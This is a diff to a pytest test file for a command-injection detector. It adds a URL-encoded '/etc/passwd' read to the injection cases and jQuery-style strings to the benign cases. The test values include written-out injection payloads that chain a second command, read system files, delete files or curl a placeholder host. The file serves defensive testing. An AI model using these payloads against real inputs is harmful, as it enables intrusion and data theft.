@@ -16,6 +16,7 @@ SHELL = CommandInjection()
         "report.txt; cat /etc/passwd", "x | whoami", "a && curl http://a.example/s", "$(id)", "`uname -a`",
         "a\nrm -rf /tmp/x", "main & ping -c 9 a.example", "|/usr/bin/id|", "; sleep 9 #", "{{7*7}}",
         "system('id')", "<!--#exec cmd=\"ls\"-->", "a%3Bcat%20%2Fetc%2Fpasswd%20%23%20as%20text",
+        "%3Bcat%20/etc/passwd",
         "'; whoami", "\" && whoami",
     ],
 )  # fmt: skip
@@ -26,7 +27,7 @@ def test_a_value_that_starts_a_command_is_found(value: str) -> None:
 @pytest.mark.parametrize(
     "value",
     ["node & npm", "make & bash", "${amount} due", "{name}", "a script on load", "from: Monday", "--verbose", "O: 5 tons",
-     "Tom & Jerry", "a; b; c", "50% | 60%", "R&D budget", "cost: $5 (five)", "x > y", "https://a.example/?a=1&b=2",
+     "Tom & Jerry", "a; b; c", "50% | 60%", "$(document).ready explained", "$(this) and this", "R&D budget", "cost: $5 (five)", "x > y", "https://a.example/?a=1&b=2",
      "C:\\Users\\ana\\notes.txt", "AT&T", "see `README`.md in docs", "1;2;3", "Smith & Sons; London"],
 )  # fmt: skip
 def test_what_people_write_is_left_alone(value: str) -> None:
